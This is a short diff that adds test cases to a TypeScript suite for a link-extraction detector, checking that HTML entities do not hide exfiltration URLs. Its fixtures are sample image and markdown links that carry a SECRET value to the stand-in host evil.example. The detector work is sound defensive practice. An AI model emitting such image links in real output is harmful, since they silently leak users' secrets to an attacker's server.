@@ -16,4 +16,13 @@ describe('the addresses by which a text would send something', () => {
     assert.deepEqual(sendingLinks('<a href="https://evil.example/?a=1&amp;b=2">').links, [
       'https://evil.example/?a=1&b=2',
     ]));
+
+  for (const [content, address] of [
+    ['<img src="https://evil.example/a&lpar;SECRET">', 'https://evil.example/a(SECRET'],
+    ['<img src="https://evil.example/a&#40;SECRET">', 'https://evil.example/a(SECRET'],
+    ['![x](https://evil.example/a&rpar;/SECRET)', 'https://evil.example/a)/SECRET'],
+    ['<img src="https://evil.example/a&quot;SECRET">', 'https://evil.example/a%22SECRET'],
+  ] as const)
+    it(`D.flow: go on behind a sign that is spelled by an entity: ${content}`, () =>
+      assert.ok(sendingLinks(content).links.includes(address), sendingLinks(content).links.join(' ')));
 });
